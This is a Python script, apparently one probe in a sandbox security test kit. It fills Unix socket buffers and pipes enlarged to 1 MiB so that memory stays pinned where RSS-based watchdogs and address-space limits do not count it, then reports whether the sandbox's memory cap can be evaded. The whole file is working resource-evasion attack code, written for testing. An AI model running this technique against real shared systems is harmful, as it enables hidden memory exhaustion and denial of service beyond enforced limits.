# attack: memory no process owns: socket buffers full of unread data and pipe buffers grown to 1 MiB, invisible to RSS / PSS (the rlimit watchdog) and not in the address-space cap
# breach: per process more than max_memory_mb / max_processes (32 MiB) pinned outside every process's memory: 64 such processes hold more than the 2048 MiB limit unseen
# expect: the sandbox's memory limit counts them (cgroup accounting) or the buffers stay small
# run: python3 18-unattributed-memory.py   (or paste into a notebook cell); prints one line `KITATTACK {json}`

import os, sys, json, errno, time, ctypes, signal, socket, struct, stat, re, resource, select, glob, warnings
warnings.filterwarnings("ignore")
_T0 = time.monotonic()
R, B = {}, []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def _en(e):
    if isinstance(e, OSError) and e.errno:
        return "absent" if e.errno == errno.ENOENT else errno.errorcode.get(e.errno, "E%d" % e.errno)
    return type(e).__name__


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def probe(name, fn):
    """fn() -> value, or (harmed, value); records 'ok' / the value / the errno name."""
    try:
        out = fn()
    except KeyboardInterrupt:
        R[name] = "interrupted"
        return None
    except BaseException as e:  # noqa: BLE001
        R[name] = _en(e)
        return None
    harmed = False
    if isinstance(out, tuple) and len(out) == 2 and isinstance(out[0], bool):
        harmed, out = out
    R[name] = "ok" if out is None else (out if isinstance(out, (int, float, bool)) else str(out)[:300])
    if harmed:
        B.append(name)
    return out


def left(total=8.5):
    return total - (time.monotonic() - _T0)


def in_child(fn, timeout=2.0):
    """fn() in a forked child; its result as a string ('!ENAME' if it raised, 'died:<status>' if it died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                out = str(fn())
            except BaseException as e:  # noqa: BLE001
                out = "!" + _en(e)
            os.write(w, out.encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end:
        rd, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    status = 0
    try:
        status = os.waitpid(pid, 0)[1]
    except OSError:
        pass
    return data.decode(errors="replace") if data else "died:%d" % status


def child_probe(name, fn, timeout=2.0):
    """probe() of fn run in a child: 'ok...' results are breaches, '!E..' errors."""
    out = in_child(fn, timeout)
    if out.startswith("!"):
        R[name] = out[1:]
    elif out.startswith("died:"):
        R[name] = out
    else:
        R[name] = out[:300]
        if out.startswith("ok"):
            B.append(name)
    return out


def finish(attack):
    print("KITATTACK " + json.dumps({"attack": attack, "results": R, "breached": B}, default=str), flush=True)


def avail():
    for l in open("/proc/meminfo"):
        if l.startswith("MemAvailable:"):
            return int(l.split()[1]) * 1024


def rss():
    for l in open("/proc/self/status"):
        if l.startswith("VmRSS:"):
            return int(l.split()[1]) * 1024


def main():
    import fcntl
    soft = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    budget = min(150, (soft - 40) // 2)
    a0, r0 = avail(), rss()
    socks, pipes = [], []
    blob = b"\0" * 65536
    try:
        for _ in range(budget):
            if left() < 4 or a0 - avail() > 90 << 20:
                break
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            for s in (a, b):
                s.setblocking(False)
                try:
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
                except OSError:
                    pass
                try:
                    while True:
                        s.send(blob)
                except (BlockingIOError, OSError):
                    pass
            socks += [a, b]
        a1, r1 = avail(), rss()
        R["socketpairs_filled"] = len(socks) // 2
        sock_mb = max(0, (a0 - a1) - (r1 - r0)) >> 20
        R["socket_buffers_outside_rss_mb"] = sock_mb
        for _ in range(20):
            if left() < 3 or a0 - avail() > 120 << 20:
                break
            r, w = os.pipe()
            pipes += [r, w]
            try:
                fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError as e:
                R["pipe_grow"] = _en(e)
            os.set_blocking(w, False)
            try:
                while True:
                    os.write(w, blob)
            except (BlockingIOError, OSError):
                pass
        a2, r2 = avail(), rss()
        R["pipes_filled"] = len(pipes) // 2
        total = max(0, (a0 - a2) - (r2 - r0)) >> 20
        R["unattributed_mb_this_process"] = total
        R["rss_growth_mb"] = (r2 - r0) >> 20
        R["projected_64_processes_mb"] = total * 64
        if total * 64 > 2048 and total >= 16:
            B.append("unattributed_mb_this_process")
    finally:
        for s in socks:
            s.close()
        for f in pipes:
            os.close(f)


try:
    main()
except BaseException as _e:  # noqa: BLE001 - never raise out of the cell
    R["_crash"] = _en(_e)
finish('18-unattributed-memory')
